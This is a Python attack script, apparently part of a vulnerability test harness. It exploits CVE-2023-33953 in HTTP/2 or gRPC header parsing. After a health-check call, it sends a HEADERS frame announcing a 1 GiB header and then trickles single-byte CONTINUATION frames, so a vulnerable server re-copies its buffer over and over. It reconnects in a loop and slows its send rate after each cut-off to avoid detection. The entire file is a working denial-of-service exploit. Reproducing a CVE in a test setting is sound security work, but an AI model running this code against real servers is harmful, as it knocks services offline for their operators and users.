"""One header of megabytes, and then a byte of it in each CONTINUATION: a parser that begins anew with
each copies all that it has, every time (CVE-2023-33953). Slow enough not to be cut off."""

import itertools
import time

import wire
from target import Cut

WAYS = ("tls", "plain")
FLOOR = {"frames": 500}
# Of the connection, in bytes a second; less after it was cut off.
RATE_FIRST, RATE_MIN, SLOWER = 300 << 10, 8 << 10, 0.7
TICK_S = 0.02
# Of the attack: the header's begin comes in whole frames.
BUILD_UP = 0.6
ANNOUNCED = 1 << 30


def attack(target):
    rate = RATE_FIRST
    for number in itertools.count():
        began = time.monotonic()
        try:
            with target.connect(number) as connection:
                crumble(target, connection, rate, began + BUILD_UP * target.seconds)
        except Cut:
            target.cut()
            rate = max(RATE_MIN, rate * SLOWER)


def crumble(target, connection, rate, crumbs_from):
    # Whose calls are answered is a client like others.
    connection.open_call(wire.HEALTH_CHECK, b"")
    stream = connection.next_stream
    begin = b"".join(wire.literal(name, value) for name, value in
                     wire.request_headers(wire.HEALTH_CHECK, target.scheme))
    begin += b"\x00" + wire.string("x") + wire.integer(ANNOUNCED, 7)
    connection.queue(wire.frame(wire.HEADERS, 0, stream, begin))
    crumb = wire.frame(wire.CONTINUATION, 0, stream, b"y")
    allowed = 0.0
    while True:
        allowed = min(allowed + rate * TICK_S, rate)
        if time.monotonic() < crumbs_from:
            size = min(int(allowed), wire.FRAME_MAX)
            connection.queue(wire.frame(wire.CONTINUATION, 0, stream, b"y" * size))
            allowed -= size
        elif connection.queued < len(crumb) * 1000:
            count = int(allowed / len(crumb))
            connection.queue(crumb * count)
            allowed -= count * len(crumb)
            target.count("frames", count)
        connection.flush()
        connection.discard()
        time.sleep(min(target.left(), TICK_S))
